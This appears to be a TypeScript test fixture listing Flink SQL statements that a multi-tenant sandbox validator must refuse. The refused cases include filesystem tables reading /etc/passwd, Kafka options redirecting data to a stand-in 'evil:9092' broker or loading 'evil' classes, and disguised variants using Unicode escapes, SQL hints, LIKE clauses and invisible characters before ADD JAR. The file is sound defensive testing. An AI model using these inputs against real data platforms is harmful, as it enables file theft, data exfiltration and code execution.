/**
 * Tables that reach a file, another broker or another tenant's topics, in every way of writing them.
 */
import type { Refused } from './refused-statements.ts';

const option = (...statements: string[]): Refused[] => statements.map((statement) => ['option_not_allowed', statement]);
const table = (name: string, options: string) => `CREATE TABLE ${name} (id INT) WITH (${options})`;
const kafka = (more: string) => table('k', `'connector'='kafka', 'topic'='orders', 'format'='json', ${more}`);

/** Files, and connectors that do not exist here. */
export const CONNECTORS: Refused[] = [
  ['option_not_allowed', table('f', `'connector'='filesystem', 'path'='/etc/passwd', 'format'='raw'`), /Available: kafka, /],
  ...option(
    table('f', `'connector'='filesystem', 'path'='/tmp/out', 'format'='json'`),
    table('f', `'connector'='print'`),
    table('f', `'connector'='jdbc', 'url'='jdbc:derby:x', 'table-name'='t'`),
    table('f', `'connector.type'='filesystem', 'connector.path'='/etc/passwd'`),
    table('f', `'connector'='FILESYSTEM', 'path'='/etc/passwd', 'format'='raw'`),
    table('f', `'connector'='kafka '`),
    table('f', `'connector'='kafka', 'topic'='orders', 'format'='orc'`),
    `CREATE TABLE f (id INT)`,
    table('f', `'connector'='datagen', 'fields.id.length'='100000000'`),
    table('f', `'connector'='datagen', 'rows-per-second'='1000000'`),
    table('f', `'connector'='blackhole', 'a'='b'`),
  ),
];

export const OPTIONS: Refused[] = [
  ['option_not_allowed', kafka(`'properties.bootstrap.servers'='evil:9092'`), /is set for you: leave it out/],
  ...option(
    kafka(`'properties.sasl.jaas.config'='x'`),
    kafka(`'properties.security.protocol'='PLAINTEXT'`),
    kafka(`'properties.sasl.oauthbearer.token.endpoint.url'='http://127.0.0.1:1'`),
    kafka(`'properties.sasl.login.callback.handler.class'='evil.Handler'`),
    kafka(`'properties.ssl.truststore.location'='/etc/passwd'`),
    kafka(`'properties.interceptor.classes'='evil.Interceptor'`),
    kafka(`'properties.metric.reporters'='org.apache.kafka.common.metrics.JmxReporter'`),
    kafka(`'properties.partitioner.class'='evil.Partitioner'`),
    kafka(`'properties.config.providers'='file'`),
    kafka(`'sink.partitioner'='evil.Partitioner'`),
    kafka(`'avro-confluent.url'='http://127.0.0.1:1'`),
    kafka(`'avro-confluent.basic-auth.user-info'='a:b'`),
    kafka(`'scan.watermark.alignment.group'='g'`),
    kafka(`'sandbox.prefix'='other.'`),
    kafka(`'key.json.no-such-option'='true'`),
    table('k', `'connector'='kafka', 'topic-pattern'='.*', 'format'='json'`),
    table('k', `'connector'='kafka', 'topic'='../x', 'format'='json'`),
    table('k', `'connector'='kafka', 'topic'='a b', 'format'='json'`),
    table('k', `'connector'='kafka', 'topic'='', 'format'='json'`),
    table('k', `'connector'='kafka', 'topic'='orders', 'value.format'='avro-confluent'`),
  ),
];

const EVIL = `'properties.bootstrap.servers'='evil:9092'`;
const FILE = `'connector'='filesystem', 'path'='/etc/passwd', 'format'='raw'`;

/** Other ways of writing the same. */
export const DISGUISES: Refused[] = [
  ...option(
    `CREATE TABLE f (id INT) WITH (U&'\\0063onnector'='filesystem', 'path'='/etc/passwd')`,
    `CREATE TABLE f (id INT) WITH ('connector'=U&'files\\0079stem', 'path'='/etc/passwd')`,
    `SELECT * FROM orders /*+ OPTIONS(${EVIL}) */`,
    `SELECT * FROM (SELECT id FROM orders /*+ OPTIONS(${EVIL}) */) AS o`,
    `SELECT * FROM orders /*+ OPTIONS('connector'='filesystem', 'path'='/etc/passwd') */`,
    `INSERT INTO outk /*+ OPTIONS(${EVIL}) */ SELECT id, user_id FROM orders`,
    `EXPLAIN SELECT * FROM orders /*+ OPTIONS(${EVIL}) */`,
    `EXPLAIN INSERT INTO outk /*+ OPTIONS(${EVIL}) */ SELECT id, user_id FROM orders`,
    `EXECUTE STATEMENT SET BEGIN
       INSERT INTO hole SELECT id, s FROM gen; INSERT INTO outk /*+ OPTIONS(${EVIL}) */ SELECT id, user_id FROM orders; END`,
    `CREATE TABLE l WITH (${EVIL}) LIKE orders`,
    `CREATE TABLE l WITH (${FILE}) LIKE orders (EXCLUDING ALL)`,
    `CREATE TABLE l WITH ('connector'='filesystem', 'path'='/tmp/x') LIKE orders (OVERWRITING OPTIONS)`,
    `CREATE TEMPORARY TABLE l WITH (${EVIL}) LIKE orders`,
    `CREATE TABLE l WITH ('path'='/etc') LIKE orders (EXCLUDING OPTIONS)`,
    `CREATE TABLE c WITH (${FILE}) AS SELECT id FROM orders`,
    `CREATE TABLE c WITH ('connector'='kafka', 'topic'='outk', 'format'='json', ${EVIL}) AS SELECT id FROM orders`,
    `ALTER TABLE orders SET (${EVIL})`,
    `ALTER TABLE orders SET ('connector'='filesystem', 'path'='/etc/passwd')`,
    `CREATE TABLE f (id INT) WITH ('connector'='file'
       'system', 'path'='/etc/passwd')`,
    `CREATE TABLE f (id INT) WITH (/* x */ 'connector' /* y */ = -- z
       'filesystem', 'path'='/etc/passwd')`,
  ),
  ['invalid_sql', `SELECT 1; ADD JAR '/tmp/evil.jar'`, /one statement is allowed at a time/],
  ['invalid_sql', `EXECUTE STATEMENT SET BEGIN ADD JAR '/tmp/evil.jar'; END`],
  ['invalid_sql', `EXPLAIN CREATE FUNCTION f AS 'java.lang.Runtime'`],
  ['invalid_sql', `\uFEFFADD JAR '/tmp/evil.jar'`, /Lexical error/],
  ['invalid_sql', `\u200BADD JAR '/tmp/evil.jar'`, /Lexical error/],
  ['invalid_sql', `ADD\u00A0JAR '/tmp/evil.jar'`, /Lexical error/],
];
